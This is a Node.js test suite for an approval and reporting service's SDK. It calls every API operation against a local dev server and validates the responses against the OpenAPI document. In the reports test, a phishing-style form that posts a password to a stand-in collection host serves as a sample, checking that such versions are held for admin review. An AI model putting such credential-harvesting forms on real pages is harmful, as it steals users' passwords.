// Every operation of the document, called through the SDK against a real
// `assent dev` at least once, each answer read against the document's
// schema for its status: a property a closed schema lacks, or a status the
// operation does not document, fails the last test, as does an operation
// no test called.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { readFileSync } from "node:fs";
import { randomUUID } from "node:crypto";
import { Transport, AssentError, OPERATIONS, verifyWebhook } from "../dist/index.js";
import { startDev, devTest } from "./harness.mjs";

const DOC = JSON.parse(readFileSync(new URL("../../openapi.json", import.meta.url), "utf8"));
const CALLED = new Set();
const FOUND = new Set();
// Not called by a client: Slack signs its requests with its own secret,
// Prometheus scrapes metrics.
const NOT_CALLED = new Set(["slackInteractions", "metrics"]);

const resolve = (s) => {
  while (s && s.$ref) s = s.$ref.slice(2).split("/").reduce((o, k) => o[k], DOC);
  return s;
};
const opsById = {};
for (const item of Object.values(DOC.paths)) for (const op of Object.values(item)) if (op && op.operationId) opsById[op.operationId] = op;

/** A schema's properties, its allOf parts merged. */
function props(s) {
  const out = {};
  for (const part of s.allOf ?? []) Object.assign(out, props(resolve(part)));
  return Object.assign(out, s.properties ?? {});
}

/** What in value the schema does not describe, as "at.key" findings. */
export function walk(schema, value, at, found) {
  const s = resolve(schema);
  if (!s) return;
  for (const k of ["anyOf", "oneOf"]) {
    if (s[k]) {
      // The branch that fits best: none fitting is the finding.
      let best;
      for (const o of s[k]) {
        const got = [];
        walk(o, value, at, got);
        if (!best || got.length < best.length) best = got;
      }
      found.push(...best);
      return;
    }
  }
  if (Array.isArray(value)) {
    value.forEach((v, i) => walk(s.items, v, `${at}[${i}]`, found));
  } else if (value && typeof value === "object" && !(value instanceof Uint8Array)) {
    const p = props(s);
    const closed = s.additionalProperties === false || s.unevaluatedProperties === false;
    for (const [k, v] of Object.entries(value)) {
      if (k in p) walk(p[k], v, `${at}.${k}`, found);
      else if (s.additionalProperties && typeof s.additionalProperties === "object") walk(s.additionalProperties, v, `${at}.${k}`, found);
      else if (closed) found.push(`${at}.${k} is not in the document`);
    }
  }
}

function observe(id, status, data, found) {
  const responses = opsById[id]?.responses ?? {};
  const r = responses[String(status)] ?? responses.default;
  if (!r) {
    found.push(`${id}: status ${status} is not documented`);
    return;
  }
  const schema = resolve(r).content?.["application/json"]?.schema;
  if (schema && data !== undefined) walk(schema, data, `${id}: ${status}`, found);
}

const request = Transport.prototype.request;
let dev;
before(async () => {
  Transport.prototype.request = async function (id, o) {
    CALLED.add(id);
    const found = [];
    try {
      const result = await request.call(this, id, o);
      observe(id, result.status, result.data, found);
      return result;
    } catch (e) {
      if (e instanceof AssentError && e.status) observe(id, e.status, undefined, found);
      throw e;
    } finally {
      for (const f of found) FOUND.add(f);
    }
  };
  dev = await startDev();
});
after(async () => {
  Transport.prototype.request = request;
  await dev?.stop();
});

const tag = (p) => `${p}-${randomUUID().slice(0, 8)}`;
const all = async (gen) => {
  const out = [];
  for await (const x of gen) out.push(x);
  return out;
};
const ids = async (gen, key = "id") => (await all(gen)).map((x) => x[key]);
const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg==", "base64");

test("the reading catches a property a closed schema lacks, nested and through allOf, and an undocumented status", () => {
  const found = [];
  observe("getApproval", 200, { id: "apr_1", status: "pending", resolvedApprovers: [{ id: "m", urgency: 1 }], snoozed: true, input: { free: 1 } }, found);
  observe("createKey", 201, { id: "key_1", key: "k", hint: "x" }, found);
  observe("getApproval", 418, undefined, found);
  observe("getMe", 200, { kind: "agent" }, found);
  assert.deepEqual(found.sort(), [
    "createKey: 201.hint is not in the document",
    "getApproval: 200.resolvedApprovers[0].urgency is not in the document",
    "getApproval: 200.snoozed is not in the document",
    "getApproval: status 418 is not documented",
  ]);
});

devTest("requests: approvals, collections, versions, datasets, reviews, flows", async () => {
  const c = dev.agent(), decider = dev.person("admin"), mia = dev.person("mia@example.com");
  const a = await c.approvals.create({ title: "Tour approval", input: { n: 1 }, editableFields: ["n"] });
  assert.ok((await ids(decider.inbox.list("approval"))).includes(a.id));
  const q = await decider.approvals.ask(a.id, "Why?");
  await c.approvals.answer(a.id, q.questionId, "Because");
  await decider.approvals.decide(a.id, { decision: "approve", corrections: { n: 2 } });
  assert.deepEqual((await c.approvals.wait(a.id, { timeout: 30 })).approvedInput, { n: 2 });
  assert.equal((await c.approvals.get(a.id)).id, a.id);
  assert.ok((await ids(c.approvals.list({ status: "approved" }))).includes(a.id));
  const done = await c.approvals.get(a.id);
  const now = new Date().toISOString();
  const receipt = await c.receipts.create({ decisionToken: done.decisionToken, input: done.approvedInput, outcome: "succeeded", result: { sent: true }, startedAt: now, finishedAt: now });
  assert.ok(receipt.inputMatches && receipt.approvalId === a.id);
  assert.equal((await c.approvals.get(a.id)).execution.receiptId, receipt.id);
  await assert.rejects(c.receipts.create({ decisionToken: done.decisionToken, input: done.approvedInput, outcome: "succeeded", startedAt: now, finishedAt: now }), (e) => {
    assert.deepEqual([e.status, e.code, e.receipt?.id], [409, "receipt_exists", receipt.id], "the error carries the token's receipt");
    return true;
  });
  assert.ok((await ids(c.approvals.list({ executed: true }))).includes(a.id));
  assert.equal((await c.approvals.cancel((await c.approvals.create({ title: "Tour cancel" })).id)).status, "cancelled");

  const col = await c.collections.create({ title: "Tour reply", questions: [{ id: "ok", prompt: "Ok?", kind: "boolean" }], respondents: ["mia@example.com"] });
  assert.ok((await ids(mia.inbox.list("collection"))).includes(col.id));
  await mia.collections.reply(col.id, { ok: true }, { submit: true });
  assert.deepEqual((await c.collections.wait(col.id, { timeout: 30 })).replies[0].answers, { ok: true });

  const slug = tag("tour/v");
  await c.reports.create({ title: "Tour versions", content: "<h1>one</h1>", slug, audience: ["mia@example.com"] });
  const ticket = await c.reports.upload(new TextEncoder().encode("<h1>two</h1>"), "text/html");
  assert.equal((await c.request("publishVersion", { path: { idOrSlug: slug }, body: { uploadId: ticket.uploadId } })).liveVersion, 2);
  assert.equal((await c.reports.publish(slug, { content: "<h1>three</h1>", expectedVersion: 2 })).liveVersion, 3);
  assert.equal((await c.reports.rollback(slug, 1)).liveVersion, 1);
  assert.equal((await c.reports.versions(slug)).data.length, 3);
  await c.reports.putDataset(slug, "d", { x: 1 });
  assert.deepEqual(await c.reports.getDataset(slug, "d"), { x: 1 });
  const review = await c.reviews.create({ title: "Tour verdict", reportId: slug, reviewers: ["mia@example.com"] });
  await mia.reviews.verdict(review.id, { verdict: "changes_requested", note: "Fix the title" });
  assert.equal((await c.reviews.wait(review.id, { timeout: 30 })).status, "changes_requested");
  assert.ok((await c.reports.archive(slug)).archived);

  const flow = await c.flows.create({ title: "Tour flow" });
  await c.approvals.create({ title: "Tour in a flow", flowId: flow.id });
  assert.equal((await c.flows.get(flow.id)).id, flow.id);
  assert.ok((await c.flows.evidence(flow.id)).timeline.length);
  await c.flows.complete(flow.id);
});

devTest("the service and the caller", async () => {
  const c = dev.agent();
  assert.equal((await c.service.health()).status, "ok");
  assert.equal((await c.service.readiness()).status, "ready");
  assert.equal((await c.service.openapi()).openapi, "3.1.0");
  assert.ok((await c.service.decisionKeys()).keys[0].kid.startsWith("dtk_"));
  assert.ok((await c.service.evidenceKeys()).keys.length);
  assert.ok((await c.service.resourceMetadata()).resource.endsWith("/mcp"));
  assert.ok((await c.service.mcpResourceMetadata()).resource.endsWith("/mcp"));
  const mia = dev.person("mia@example.com");
  assert.equal((await mia.me.get()).kind, "member");
  const own = await mia.me.createToken({ scopes: ["approvals:read"] });
  assert.ok(own.token.startsWith("asnt_member_"));
  const mine = [];
  for await (const k of mia.me.listTokens()) mine.push(k.id);
  assert.ok(mine.includes(own.id));
  assert.ok((await mia.me.revokeToken(own.id)).revokedAt);

  // A delegation beginning tomorrow, so no other tour request asks Max for
  // Maya; then ended.
  const maya = dev.person("maya@example.com"), max = dev.person("max@example.com");
  const from = new Date(Date.now() + 86_400_000);
  const set = await maya.me.setDelegation({ to: "max@example.com", from, until: new Date(from.getTime() + 86_400_000), note: "Tour" });
  assert.equal(set.delegation?.delegate.email, "max@example.com");
  assert.equal(set.delegation?.active, false);
  assert.equal((await max.me.getDelegation()).delegatedToMe.length, 1);
  await maya.me.endDelegation();
  assert.equal((await maya.me.getDelegation()).delegation, null);
});

devTest("reports, comments, sharing, schedules, held versions, reviews", async () => {
  const c = dev.agent(), mia = dev.person("mia@example.com"), adm = dev.admin();
  const slug = tag("tour/r");
  const page = "<!doctype html><title>Tour</title><h1>Tour</h1><p>The quarter closed above plan.</p>";
  const report = await c.reports.create({ title: "Tour", files: { "index.html": page }, slug, living: true });
  assert.equal(report.slug, slug);
  assert.equal((await c.reports.get(report.id)).slug, slug);
  assert.ok((await ids(c.reports.list())).includes(report.id));
  assert.equal((await c.reports.update(slug, { classification: "confidential" })).classification, "confidential");
  assert.ok((await c.reports.share(slug, ["mia@example.com", "Operations"])).audience.length);
  assert.ok((await c.audiences.resolve(["mia@example.com"])).audience.length);
  await c.reports.unshare(slug, ["Operations"]);
  assert.ok((await c.reports.send(slug, { to: ["mia@example.com"], note: "for you" })).recipients.length);
  assert.notEqual((await c.reports.analytics(slug)).totalViews, undefined);
  assert.ok((await ids(c.reports.organizationAnalytics(), "reportId")).includes(report.id));
  await c.reports.putDataset(slug, "kpis", [1, 2, 3]);
  assert.deepEqual((await c.reports.datasets(slug)).data.map((d) => d.name), ["kpis"]);
  await c.reports.deleteDataset(slug, "kpis");
  const template = (await c.reports.templates()).data[0];
  assert.ok((await c.reports.copy(template.id, { slug: tag("tour/t") })).id);
  assert.ok((await c.reports.copy(slug, { title: "Tour copy" })).id);
  assert.ok((await c.reports.evidence(slug, { format: "csv" })) instanceof Uint8Array);
  assert.ok((await c.reports.evidence(slug)).digest);

  const thread = await mia.comments.post(slug, { body: "Above plan by how much?", quote: "closed above plan", images: [{ data: PNG.toString("base64") }] });
  assert.equal((await c.comments.list(slug)).data.length, 1);
  assert.deepEqual(Buffer.from(await c.comments.image(slug, thread.comments[0].images[0].sha256)), PNG);
  const reply = await mia.comments.post(slug, { body: "Never mind", threadId: thread.id });
  await mia.comments.retract(slug, reply.comments.at(-1).id);
  assert.ok((await ids(c.comments.open())).includes(thread.id));
  assert.match((await c.comments.revisionBrief(slug)).text, /closed above plan/);
  assert.equal((await mia.comments.resolve(thread.id, { note: "answered" })).status, "resolved");

  const schedule = await c.schedules.create({ reportId: slug, every: "24h", note: "daily" });
  assert.equal((await c.schedules.get(schedule.id)).id, schedule.id);
  assert.ok((await ids(c.schedules.list({ reportId: report.id }))).includes(schedule.id));
  assert.ok((await c.schedules.pause(schedule.id)).paused);
  assert.equal((await c.schedules.resume(schedule.id)).paused, false);
  await c.schedules.delete(schedule.id);

  const phish = (name) => `<form action="https://collect.example.net/${name}"><input type="password" name="p"></form>`;
  const held = await c.reports.publish(slug, { content: phish("login") });
  assert.equal(held.version.status, "held");
  assert.ok((await adm.admin.heldVersions.list()).data.map((r) => r.version.id).includes(held.version.id));
  await adm.admin.heldVersions.decline(held.version.id);
  const again = await c.reports.publish(slug, { content: phish("x") });
  await adm.admin.heldVersions.release(again.version.id);

  const review = await c.reviews.create({ title: "Tour review", reportId: slug, reviewers: ["mia@example.com"] });
  assert.ok((await ids(mia.inbox.list("review"))).includes(review.id));
  assert.ok((await ids(c.reviews.list({ reportId: report.id }))).includes(review.id));
  assert.equal((await c.reviews.get(review.id)).id, review.id);
  assert.equal((await c.reviews.cancel(review.id)).status, "cancelled");
});

devTest("collections, flows and the gate", async () => {
  const c = dev.agent();
  const flow = await c.flows.create({ title: "Tour flow", externalId: "tour" });
  const col = await c.collections.create({ title: "Tour question", questions: [{ prompt: "Ok?", kind: "boolean" }], respondents: ["mia@example.com"], flowId: flow.id });
  assert.equal((await c.collections.get(col.id)).id, col.id);
  assert.ok((await ids(c.collections.list({ flowId: flow.id }))).includes(col.id));
  assert.equal((await c.collections.cancel(col.id)).status, "cancelled");
  await c.flows.cancel(flow.id);
  await assert.rejects(c.gate.check({ action: "not.registered", input: {} }), (e) => e instanceof AssentError && e.status === 404);

  // A standing mandate: no rule of the action's decides, so its checks ask
  // the owners and administrators, and the demo administrator may allow
  // them ahead.
  const action = await dev.admin().admin.actions.create({ name: tag("tour.m"), inputSchema: { type: "object", properties: { amount: { type: "number" } } } });
  const granter = dev.person("admin");
  const mandate = await granter.mandates.grant({
    action: action.name,
    budget: { count: 2, sum: { field: "amount", max: 100 }, window: "day" },
    expiresAt: new Date(Date.now() + 86_400_000),
    note: "Tour",
  });
  assert.equal(mandate.status, "active");
  const allowed = await c.gate.check({ action: action.name, input: { amount: 30 } });
  assert.deepEqual([allowed.decision, allowed.mandateId], ["allowed", mandate.id]);
  assert.equal((await c.verifyDecisionToken(allowed.decisionToken, { amount: 30 }, { action: action.name })).mandate, mandate.id);
  const now = new Date().toISOString();
  await assert.rejects(c.receipts.create({ decisionToken: allowed.decisionToken, input: { amount: 31 }, outcome: "succeeded", startedAt: now, finishedAt: now }), (e) => {
    assert.deepEqual([e.status, e.code, e.receipt?.inputMatches], [409, "input_mismatch", false], "recorded, and carried by the error");
    return true;
  });
  assert.ok((await ids(granter.mandates.list({ live: true }))).includes(mandate.id));
  const read = await granter.mandates.get(mandate.id);
  assert.deepEqual([read.uses, read.remaining.sum], [1, 70]);
  assert.equal((await granter.mandates.revoke(mandate.id)).status, "revoked");
  const asked = await c.gate.check({ action: action.name, input: { amount: 30 } });
  assert.equal(asked.decision, "approval_required", "revoked: the next check asks a person");
  await c.approvals.cancel(asked.approval.id);
});

devTest("the admin API", async () => {
  const a = dev.admin().admin;
  const org = await a.organization.get();
  assert.equal((await a.organization.update({ name: org.name })).name, org.name);
  const email = `${tag("tour")}@example.com`;
  const member = await a.members.create({ email, name: "Tour", role: "member" });
  assert.ok((await ids(a.members.list())).includes(member.id));
  assert.equal((await a.members.update(member.id, { name: "Tour Two" })).name, "Tour Two");
  assert.ok((await a.members.createToken(member.id)).token);
  const team = await a.teams.create({ name: tag("tour"), kind: "team", members: [email] });
  assert.ok((await ids(a.teams.list())).includes(team.id));
  await a.teams.update(team.id, { members: [] });
  await a.teams.delete(team.id);
  const guest = await a.guests.create({ email: `${tag("guest")}@example.net`, name: "G" });
  assert.ok((await ids(a.guests.list())).includes(guest.id));
  assert.equal((await a.guests.update(guest.id, { name: "G2" })).name, "G2");
  await a.guests.remove(guest.id);
  const key = await a.keys.create({ name: "tour", kind: "agent", scopes: ["approvals:read"] });
  assert.ok(key.key.startsWith("asnt_agent_"));
  assert.ok((await ids(a.keys.list())).includes(key.id));
  assert.ok((await a.keys.revoke(key.id)).revokedAt);
  const rule = await a.rules.create({ name: tag("Two for critical"), kind: "approval", condition: 'request.risk == "critical"', requiredApprovals: 2 });
  assert.ok((await ids(a.rules.list())).includes(rule.id));
  assert.equal((await a.rules.update(rule.id, { enabled: false })).enabled, false);
  await a.rules.delete(rule.id);
  const action = await a.actions.create({ name: tag("tour"), inputSchema: { type: "object" } });
  assert.ok((await ids(a.actions.list())).includes(action.id));
  assert.equal((await a.actions.get(action.id)).id, action.id);
  assert.equal((await a.actions.update(action.id, { name: action.name, inputSchema: { type: "object" }, description: "changed" })).description, "changed");
  await a.actions.delete(action.id);
  await a.slack.put({ signingSecret: "8f742231b10e8888abcd99yyyzzz85a5", botToken: "xoxb-1234-5678-abcdefghijkl", channel: "C0123ABCD" });
  assert.equal((await a.slack.get()).channel, "C0123ABCD");
  assert.ok((await a.slack.manifest()).display_information);
  await a.slack.delete();

  const received = [];
  const server = http.createServer((req, res) => {
    const chunks = [];
    req.on("data", (c) => chunks.push(c));
    req.on("end", () => {
      received.push({ headers: req.headers, body: Buffer.concat(chunks) });
      res.writeHead(204).end();
    });
  });
  await new Promise((r) => server.listen(0, "127.0.0.1", r));
  try {
    const screen = await a.modelScreen.put({ url: `http://127.0.0.1:${server.address().port}/v1/chat/completions`, model: "tour-model", apiKey: "sk-tour" });
    assert.ok(screen.enabled && screen.apiKeySet);
    assert.equal((await a.modelScreen.get()).model, "tour-model");
    await a.modelScreen.delete();
    assert.equal((await a.modelScreen.get()).enabled, false);
    const hook = await a.webhooks.create({ url: `http://127.0.0.1:${server.address().port}/hook`, events: ["approval.approved"] });
    assert.ok(hook.secret);
    assert.equal((await a.webhooks.get(hook.id)).id, hook.id);
    assert.ok((await ids(a.webhooks.list())).includes(hook.id));
    assert.ok((await a.webhooks.test(hook.id)).delivered);
    const last = received.at(-1);
    assert.ok(verifyWebhook(last.body, last.headers, hook.secret).test);
    const created = await dev.agent().approvals.create({ title: "Hooked" });
    await dev.person("admin").approvals.decide(created.id, { decision: "approve" });
    let delivered = [];
    for (const deadline = Date.now() + 60_000; !delivered.length && Date.now() < deadline; await new Promise((r) => setTimeout(r, 200))) {
      delivered = (await all(a.webhooks.deliveries(hook.id))).filter((d) => d.status === "delivered");
    }
    assert.ok(delivered.length, "no delivery");
    assert.equal((await a.deliveries.get(delivered[0].id)).id, delivered[0].id);
    await a.deliveries.resend(delivered[0].id);
    assert.equal((await a.webhooks.recover(hook.id, new Date(Date.now() - 3600_000))).recovered, 0);
    assert.notEqual((await a.webhooks.rotateSecret(hook.id)).secret, hook.secret);
    assert.equal((await a.webhooks.update(hook.id, { enabled: false })).enabled, false);
    await a.webhooks.delete(hook.id);
  } finally {
    server.closeAllConnections();
    await new Promise((r) => server.close(r));
  }
});

// Last: node --test runs a file's tests in order.
devTest("every operation was called, and every answer is in the document", () => {
  const missing = Object.keys(OPERATIONS).filter((id) => !CALLED.has(id) && !NOT_CALLED.has(id)).sort();
  assert.deepEqual(missing, [], "operations no test called through the SDK");
  assert.deepEqual([...FOUND].sort(), [], "answers the document does not describe");
});
